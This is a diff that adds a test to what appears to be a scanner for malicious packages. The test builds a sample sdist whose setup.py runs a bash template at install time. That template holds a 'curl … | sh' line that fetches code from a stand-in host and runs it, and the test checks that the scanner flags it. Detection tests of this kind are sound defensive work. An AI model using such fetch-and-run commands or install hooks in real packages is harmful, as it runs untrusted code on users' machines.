@@ -98,6 +98,16 @@ def test_the_kind_of_a_machine_is_no_fact_about_it(part: str, told: bool) -> Non
     assert (worst_of("host-beacon", built(UNAME.format(part=part))) is not None) is told
 
 
+def test_a_template_that_an_installer_starts_is_no_text() -> None:
+    started = "import subprocess\nsubprocess.run(['bash', 'x.template'])\n"
+    text = "#!/bin/bash\ncurl -s https://a.example.invalid/x | sh\n_{{name}}(){{\n (( {{ <<\n fi done }} ;;\n"
+    program = program_of(
+        "sdist", {"setup.py": started, "sample/__init__.py": "", "x.template": text}
+    )
+    assert worst_of("attack-command", program) is Severity.CRITICAL
+    assert worst_of("hook-runs-data-file", program) is Severity.HIGH
+
+
 def test_a_script_beside_the_package_is_not_installed() -> None:
     program = built("", bootstrap=f"import os\n{RUN}\n")
     assert worst_of("attack-command", program) is Severity.MEDIUM
